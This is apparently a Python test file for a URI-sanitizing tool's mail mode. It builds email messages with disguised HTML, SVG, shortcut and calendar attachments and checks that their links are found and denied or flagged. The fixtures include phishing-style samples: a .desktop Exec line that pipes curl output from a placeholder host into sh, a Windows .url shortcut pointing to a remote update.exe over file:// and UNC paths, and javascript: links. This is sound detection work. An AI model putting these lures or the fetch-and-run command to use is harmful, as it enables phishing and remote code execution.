#!/usr/bin/env python3
"""Attachments read as the reader's system opens them: `urisan extract --mail`.

Messages built here (Python's email package), each attachment labelled
the way phishing labels it (application/octet-stream, text/plain, the
right type): HTML, XHTML and SVG files through the HTML reader; Windows
.url, macOS .webloc and freedesktop .desktop shortcuts; calendar invites
(text/calendar and .ics files, folded lines, RFC 5545 escapes); each link
found with its context and the attachment's file name, judged under
--profile mail. An inline text part is still read by its type alone.

Usage: mail_attachments_test.py path/to/urisan   (exit 77: built without mail)
"""
import base64
import sys
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email import encoders

import testlib
from testlib import check, failures

URISAN = sys.argv[1]


def attachment(data, ctype, name, disposition="attachment"):
    """A base64 part of type ctype with file name name (None: none)."""
    main, sub = ctype.split("/", 1)
    p = MIMEBase(main, sub)
    p.set_payload(data)
    encoders.encode_base64(p)
    if name is not None:
        p.set_param("name", name)
        p.add_header("Content-Disposition", disposition, filename=name)
    return p


def message(*parts, body="See the attachment."):
    m = MIMEMultipart()
    m["From"] = "a@sender.example"
    m["To"] = "b@receiver.example"
    m["Subject"] = "attachments"
    m.attach(MIMEText(body, "plain"))
    for p in parts:
        m.attach(p)
    return m.as_bytes()


def rows(msg):
    rc, rs, err = testlib.extract_rows(URISAN, ["--mail", "--profile", "mail", "-"], msg)
    return rc, rs


def find(rs, uri):
    return [r for r in rs if r.get("uri") == uri]


def expect(rs, uri, context, attachment, verdict=None, what=""):
    got = find(rs, uri)
    ok = any(r["context"] == context and r.get("attachment") == attachment and
             (verdict is None or r["verdict"] == verdict) for r in got)
    check(ok, "%s: %s found as %s in %r%s (got %s)" % (
        what, uri, context, attachment, "" if verdict is None else ", " + verdict,
        [(r["context"], r.get("attachment"), r["verdict"]) for r in got]))


HTML = (b'<!DOCTYPE html><html><body><p>Your invoice</p>'
        b'<a href="http://127.0.0.1/pay">Pay now</a></body></html>')


def test_html_attachment_by_name_whatever_its_label():
    for label in ("application/octet-stream", "text/plain", "text/html",
                  "application/x-unknown"):
        for name in ("invoice.html", "invoice.HTM", "invoice.shtml", "invoice.xhtml",
                     "invoice.html. "):
            rc, rs = rows(message(attachment(HTML, label, name)))
            expect(rs, "http://127.0.0.1/pay", "html-href", name, "deny",
                   "%s labelled %s" % (name, label))
            check(not any(r["context"] == "text" and r.get("attachment") == name
                          for r in rs),
                  "%s labelled %s: read once, as HTML" % (name, label))


def test_html_attachment_by_content_without_a_known_name():
    rc, rs = rows(message(attachment(HTML, "application/octet-stream", "scan0042.dat")))
    expect(rs, "http://127.0.0.1/pay", "html-href", "scan0042.dat", "deny",
           "HTML bytes in a .dat file")
    rc, rs = rows(message(attachment(b"\xef\xbb\xbf  <html><a href='http://127.0.0.1/b'>x</a>",
                                     "application/octet-stream", None, None)))
    expect(rs, "http://127.0.0.1/b", "html-href", None, "deny",
           "HTML bytes after a byte order mark, no name")


def test_svg_attachment_links_and_script():
    svg = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
           b'xmlns:xlink="http://www.w3.org/1999/xlink">'
           b'<a xlink:href="javascript:alert(1)"><text>open</text></a>'
           b'<a href="https://login.evil.example/o365"><rect/></a>'
           b'<image href="http://10.0.0.5/track.png"/></svg>')
    for label in ("image/svg+xml", "application/octet-stream"):
        rc, rs = rows(message(attachment(svg, label, "fax.svg")))
        expect(rs, "javascript:alert(1)", "html-href", "fax.svg", "deny", "svg " + label)
        expect(rs, "https://login.evil.example/o365", "html-href", "fax.svg", None,
               "svg " + label)
    rc, rs = rows(message(attachment(svg, "image/svg+xml", None, None)))
    expect(rs, "javascript:alert(1)", "html-href", None, "deny", "inline svg without a name")


def test_windows_url_shortcut():
    url = (b"[InternetShortcut]\r\nURL=file://evil.example/share/update.exe\r\n"
           b"IconIndex=3\r\nIconFile=\\\\evil.example\\icons\\pdf.ico\r\n")
    for label in ("application/octet-stream", "text/plain", "application/internet-shortcut"):
        rc, rs = rows(message(attachment(url, label, "Invoice.url")))
        expect(rs, "file://evil.example/share/update.exe", "shortcut-url", "Invoice.url",
               "deny", ".url labelled " + label)
        expect(rs, "file://evil.example/icons/pdf.ico", "shortcut-icon", "Invoice.url",
               "deny", ".url IconFile UNC path, labelled " + label)
        check(len([r for r in rs if r.get("attachment") == "Invoice.url"]) == 2,
              ".url labelled %s: two links, each once" % label)
    # a shortcut with a name that says nothing: its first line does
    rc, rs = rows(message(attachment(b"[InternetShortcut]\nURL=http://127.0.0.1:8080/x\n",
                                     "application/octet-stream", "document")))
    expect(rs, "http://127.0.0.1:8080/x", "shortcut-url", "document", "deny",
           "[InternetShortcut] content, no extension")


def test_webloc_plist():
    plist = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
             b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
             b'"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
             b'<plist version="1.0"><dict>\n\t<key>URL</key>\n'
             b'\t<string>http://127.0.0.1/w?a=1&amp;b=2</string>\n</dict></plist>\n')
    rc, rs = rows(message(attachment(plist, "application/octet-stream", "Shared File.webloc")))
    expect(rs, "http://127.0.0.1/w?a=1&b=2", "shortcut-url", "Shared File.webloc", "deny",
           ".webloc URL string, entities decoded")
    check(not find(rs, "http://www.apple.com/DTDs/PropertyList-1.0.dtd"),
          ".webloc: the DOCTYPE's DTD is no link")


def test_desktop_entry():
    de = (b"[Desktop Entry]\nType=Application\nName=Invoice\n"
          b"Exec=sh -c \"curl -s http://127.0.0.1/stage2 | sh\"\n"
          b"Icon=https://cdn.evil.example/pdf.png\n")
    rc, rs = rows(message(attachment(de, "application/octet-stream", "invoice.pdf.desktop")))
    expect(rs, "http://127.0.0.1/stage2", "shortcut-exec", "invoice.pdf.desktop", "deny",
           ".desktop Exec")
    expect(rs, "https://cdn.evil.example/pdf.png", "shortcut-icon", "invoice.pdf.desktop",
           None, ".desktop Icon")
    link = b"[Desktop Entry]\nType=Link\nURL=javascript:alert(2)\n"
    rc, rs = rows(message(attachment(link, "application/x-desktop", "go.desktop")))
    expect(rs, "javascript:alert(2)", "shortcut-url", "go.desktop", "deny", ".desktop Type=Link")


ICS = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\nMETHOD:REQUEST\r\n"
       "BEGIN:VEVENT\r\nUID:1@example.com\r\nSUMMARY:Payroll review\r\n"
       "URL:http://127.0.0.1/event\r\n"
       "ATTACH;FMTTYPE=application/pdf:https://files.evil.example/agen\r\n da.pdf\r\n"
       "ATTACH;ENCODING=BASE64;VALUE=BINARY:aHR0cDovLzEyNy4wLjAuMS9iaW4=\r\n"
       "DESCRIPTION:Join the meeting: https://meet.evil.example/j/1?a=b\\;c\\, or\\n"
       "the fallback http://10.1.2.3/\r\n dial-in\r\n"
       "LOCATION:Room 4 \\; http://192.168.1.1/room\r\n"
       "CONFERENCE;VALUE=URI;FEATURE=VIDEO:https://video.evil.example/r\r\n"
       "X-ALT-DESC;FMTTYPE=text/html:<a href=\"http://127.0.0.2/alt\">Join</a>\r\n"
       "END:VEVENT\r\nEND:VCALENDAR\r\n")


def calendar_links(rs, name):
    return [r for r in rs if r.get("attachment") == name and r["part"] != "1"]


def test_calendar_invite_properties():
    for how, part in (
            ("text/calendar inline", MIMEText(ICS, "calendar")),
            (".ics labelled octet-stream", attachment(ICS.encode(), "application/octet-stream",
                                                     "invite.ics")),
            ("application/ics", attachment(ICS.encode(), "application/ics", "meeting"))):
        name = part.get_filename()
        rc, rs = rows(message(part))
        expect(rs, "http://127.0.0.1/event", "ics-url", name, "deny", how + " URL")
        expect(rs, "https://files.evil.example/agenda.pdf", "ics-attach", name, None,
               how + " ATTACH unfolded")
        expect(rs, "https://meet.evil.example/j/1?a=b;c", "ics-description", name, None,
               how + " DESCRIPTION unescaped")
        expect(rs, "http://10.1.2.3/dial-in", "ics-description", name, "flag",
               how + " DESCRIPTION folded")
        expect(rs, "http://192.168.1.1/room", "ics-location", name, "flag", how + " LOCATION")
        expect(rs, "https://video.evil.example/r", "ics-url", name, None, how + " CONFERENCE")
        expect(rs, "http://127.0.0.2/alt", "html-href", name, "deny", how + " X-ALT-DESC HTML")
        check(not find(rs, "http://127.0.0.1/bin"),
              how + ": an inline binary ATTACH is no link")
        check(all(r["context"] != "text" for r in calendar_links(rs, name)),
              how + ": read by the calendar reader, not as text")


def test_inline_text_parts_are_read_by_their_type():
    # an inline text/plain part whose text is HTML markup stays text
    m = message(body='<a href="http://127.0.0.1/x">x</a> see http://127.0.0.1/y')
    rc, rs = rows(m)
    check({r["context"] for r in rs} == {"text"} and len(rs) == 2,
          "inline text/plain with markup: text hits only (%s)" % [r["context"] for r in rs])
    check(all("attachment" not in r for r in rs), "inline text part: no attachment key")


def test_a_named_text_attachment_reports_its_name():
    rc, rs = rows(message(attachment(b"notes: http://127.0.0.1/n\n", "text/plain", "notes.txt")))
    expect(rs, "http://127.0.0.1/n", "text", "notes.txt", "deny", "text attachment")


def test_binary_attachments_are_not_read_as_text():
    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"http://127.0.0.1/inpng" + b"\0" * 20
    rc, rs = rows(message(attachment(png, "application/octet-stream", "a.png"),
                          attachment(b"\x00\x01\x02http://127.0.0.1/bin\x00",
                                     "application/octet-stream", "blob.bin")))
    check(not find(rs, "http://127.0.0.1/inpng") and not find(rs, "http://127.0.0.1/bin"),
          "an image and a binary blob are not scanned as text")


def raw_message(part_head, body):
    return ("From: a@sender.example\r\nTo: b@receiver.example\r\nSubject: x\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=DD\r\n\r\n"
            "--DD\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
            "--DD\r\n%s\r\n%s\r\n--DD--\r\n" % (part_head, body)).encode()


def test_two_header_fields_that_change_the_reading():
    html = '<a href="http://127.0.0.1/dup">x</a>'
    b64 = base64.b64encode(html.encode()).decode()
    cases = (
        ("two Content-Type (text/html, image/png)",
         "Content-Type: text/html\r\nContent-Type: image/png\r\n", html, "html-href"),
        ("two Content-Type (image/png, text/html)",
         "Content-Type: image/png\r\nContent-Type: text/html\r\n", html, "html-href"),
        ("two Content-Transfer-Encoding (7bit, base64)",
         "Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\n"
         "Content-Transfer-Encoding: base64\r\n", b64, "html-href"),
        ("two Content-Disposition (inline, attachment .html)",
         "Content-Type: application/octet-stream\r\nContent-Disposition: inline\r\n"
         "Content-Disposition: attachment; filename=a.html\r\n", html, "html-href"),
    )
    for what, head, body, ctx in cases:
        rs = [r for r in rows(raw_message(head, body))[1] if r["part"] == "2"]
        got = [r for r in rs if r["uri"] == "http://127.0.0.1/dup" and r["context"] == ctx]
        check(got and all("mime_conflict" in r["flags"] and r["verdict"] == "deny" and
                          "mime_conflict" in r["deny_reasons"] for r in rs),
              "%s: the link found under one reading, every link mime_conflict, denied (%s)"
              % (what, [(r["uri"], r["context"], r["flags"]) for r in rs]))
    # the same field twice with the same value changes nothing
    rs = rows(raw_message("Content-Type: text/html\r\nContent-Type: TEXT/HTML\r\n", html))[1]
    check(rs and all("mime_conflict" not in r["flags"] for r in rs),
          "a field repeated with the same value: no conflict")
    # the default policy flags it
    rc, rs, err = testlib.extract_rows(URISAN, ["--mail", "-"], raw_message(
        "Content-Type: text/plain\r\nContent-Type: text/html\r\n",
        '<a href="https://ok.example/">x</a>'))
    check(rs and all(r["verdict"] == "flag" and "mime_conflict" in r["flags"] for r in rs
                     if r["part"] == "2"), "default policy: flagged")


def test_text_output_names_the_attachment():
    rc, out, err = testlib.extract(URISAN, ["--mail", "--profile", "mail", "-"],
                                   message(attachment(HTML, "application/octet-stream",
                                                      "invoice.html")))
    check(b'attachment "invoice.html"' in out, "text output: attachment \"NAME\" (%r)" % out)


def main():
    rc, _, err = testlib.extract(URISAN, ["--mail", "-"], message())
    if rc == 2 and b"not available" in err:
        print("SKIP: urisan built without the 'mail' option")
        return 77
    for name, fn in sorted(globals().items()):
        if name.startswith("test_") and callable(fn):
            fn()
    if failures:
        print("%d failure(s)" % len(failures))
        return 1
    print("all attachment cases passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
